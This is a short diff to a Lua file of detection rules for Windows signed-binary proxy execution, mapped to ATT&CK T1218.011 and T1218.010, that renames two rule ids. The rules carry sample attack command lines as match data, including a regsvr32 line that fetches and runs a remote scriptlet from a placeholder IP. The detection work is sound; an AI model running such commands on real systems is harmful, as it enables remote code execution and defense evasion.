@@ -61,11 +61,11 @@ local function wmic_stylesheet(each)
 end
 
 local ROWS = {
-    { id = "defense_evasion.rundll32", programs = { "rundll32" }, attack = "T1218.011", target = rundll32_target,
+    { id = "defense-evasion.rundll32", programs = { "rundll32" }, attack = "T1218.011", target = rundll32_target,
       what = "has rundll32 run",
       match = [[rundll32.exe C:\Users\x\AppData\Roaming\a\b.dll, Main]],
       no_match = "rundll32.exe shell32.dll,Control_RunDLL desk.cpl" },
-    { id = "defense_evasion.regsvr32", programs = { "regsvr32" }, attack = "T1218.010", target = user_file_or_url,
+    { id = "defense-evasion.regsvr32", programs = { "regsvr32" }, attack = "T1218.010", target = user_file_or_url,
       what = "has regsvr32 run",
       match = "regsvr32 /s /n /u /i:http://203.0.113.5/a.sct scrobj.dll",
       no_match = [[regsvr32 /s "C:\Program Files\Tool\tool.dll"]] },
